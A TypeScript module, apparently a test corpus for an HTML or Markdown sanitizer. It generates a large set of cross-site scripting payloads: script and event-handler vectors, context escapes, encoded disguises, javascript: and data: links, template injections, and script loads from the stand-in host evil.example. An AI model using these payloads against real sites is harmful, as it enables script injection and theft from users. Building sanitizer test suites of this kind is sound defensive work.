/** What each payload tries to run: the page's hooks notice it. */
const deed = 'alert(1)'
const far = '//evil.example/x'

/** Ways to run or load something, in HTML. */
const vectors: readonly string[] = [
  `<script>${deed}</script>`,
  `<script src=${far}></script>`,
  `<img src=x onerror=${deed}>`,
  `<img src=${far}>`,
  `<svg onload=${deed}>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><animate onbegin=${deed} attributeName=x>`,
  `<math><mi xlink:href="javascript:${deed}">x`,
  `<iframe srcdoc="<script>${deed}</script>">`,
  `<iframe src=javascript:${deed}>`,
  `<object data=${far}>`,
  `<embed src=${far}>`,
  `<details open ontoggle=${deed}>`,
  `<video><source onerror=${deed}>`,
  `<input autofocus onfocus=${deed}>`,
  `<body onload=${deed}>`,
  `<style>@import "${far}"</style>`,
  `<style>*{background:url(${far})}</style>`,
  `<link rel=stylesheet href=${far}>`,
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<base href=${far}>`,
  `<form action=${far}><button autofocus>x`,
  `<a href="javascript:${deed}">x</a>`,
  `<p style="background:url(${far})">x`,
  `<template><img src=x onerror=${deed}>`,
  `<noscript><img src=x onerror=${deed}></noscript>`,
]

/** What the text may stand in, and how it is left. */
const exits: readonly string[] = [
  '',
  '">',
  "'>",
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '-->',
  ']]>',
  '`>',
  '" x="',
  '\\">',
]

/** The same vector as other readers write it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text.toUpperCase(),
  (text) => text.replaceAll(/<(\w)/g, '<\u00a0$1'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll(/[<>]/g, (char) => `&#${char.charCodeAt(0)};`),
  (text) => text.replaceAll(/[<>]/g, (char) => `&#x${char.charCodeAt(0).toString(16)}`),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replace('<', '<<').replace('>', '>>'),
  (text) => `\`${text}\``,
  (text) => `\\${text}`,
]

const addresses: readonly string[] = [
  `javascript:${deed}`,
  `JaVaScRiPt:${deed}`,
  `java&#115;cript:${deed}`,
  `java&Tab;script:${deed}`,
  `java&NewLine;script:${deed}`,
  `javascript&colon;${deed}`,
  `&#1;javascript:${deed}`,
  `javascript://%0a${deed}`,
  `\\javascript:${deed}`,
  `vbscript:${deed}`,
  `data:text/html,<script>${deed}</script>`,
  `data:image/svg+xml,<svg onload=${deed}>`,
  `blob:${deed}`,
  `file:///etc/passwd`,
  `view-source:${far}`,
  `https:javascript:${deed}`,
  `https://e.example/"onmouseover="${deed}`,
  `https://e.example/'onmouseover='${deed}`,
  `https://e.example/<script>${deed}</script>`,
  `mailto:a@e.example?subject="onclick="${deed}`,
  `#"onclick="${deed}`,
  far,
]

/** Ways to make a link or a picture in Markdown. */
const links: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][y]\n\n[y]: ${address}`,
  (address) => `[x](${address} "t")`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x\`](${address})\``,
  (address) => address,
]

const others: readonly string[] = [
  `{{constructor.constructor('${deed}')()}}`,
  `\${${deed}}`,
  `#{${deed}}`,
  `<%= ${deed} %>`,
  `";${deed};//`,
  `';${deed};//`,
  `\\";${deed};//`,
  `*/${deed}/*`,
  `</script><!--<script>${deed}`,
  `&lt;!--<img src="--><img src=x onerror=${deed}>`,
  `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '# <svg onload=alert(1)>',
  `<!--[if IE]><script>${deed}</script><![endif]-->`,
  `<?xml version="1.0"?><x onload="${deed}"/>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${deed}</x:script>`,
]

/** Every payload, made from contexts, vectors, disguises and ways to link. */
export const payloads: readonly string[] = [
  ...new Set([
    ...exits.flatMap((exit) => vectors.map((vector) => `${exit}${vector}`)),
    ...vectors.flatMap((vector) => disguises.map((disguise) => disguise(vector))),
    ...links.flatMap((link) => addresses.map((address) => link(address))),
    ...others,
  ]),
]
